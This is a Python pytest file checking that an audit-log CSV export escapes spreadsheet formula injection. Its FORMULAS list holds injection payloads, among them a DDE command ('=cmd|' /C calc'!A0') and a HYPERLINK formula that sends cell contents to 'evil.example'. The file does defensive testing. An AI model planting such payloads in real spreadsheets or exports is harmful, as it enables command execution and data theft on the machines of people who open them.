"""Spreadsheets compute nothing of what an export holds."""

import csv
import io
import zipfile

import pytest

from schemas_app.domain.audit_forms import Form
from schemas_app.services import audit_exports, policies
from tests import factories

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "\uff1d1+1",
    ' =1+1","=1+1',
    "%0A=1+1",
)


@pytest.fixture
def cells():
    """Return the cells of an export of a trail in which all of them were written."""
    factories.domain()
    for formula in FORMULAS:
        policies.propose(
            rules=[{"name": formula.strip(), "approvals": 1}],
            reason=formula,
            by=factories.actor("ada"),
            at=factories.NOW,
        )
    factories.person("=root()", is_superuser=True)
    export = audit_exports.export(
        first=1,
        last=10**9,
        form=Form.CSV,
        by=factories.actor("=root()"),
        at=factories.NOW,
    )
    archive = zipfile.ZipFile(io.BytesIO(b"".join(export.chunks)))
    (name,) = [each for each in archive.namelist() if each.endswith(".csv")]
    text = archive.read(name).decode()
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_begin_no_cell(cells):
    beginning = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")

    assert [cell for cell in cells if cell.startswith(beginning)] == []
    # They are there all the same, behind what keeps them from being computed.
    written = [one.strip() for one in FORMULAS]
    assert [one for one in written if not any(one in cell for cell in cells)] == []
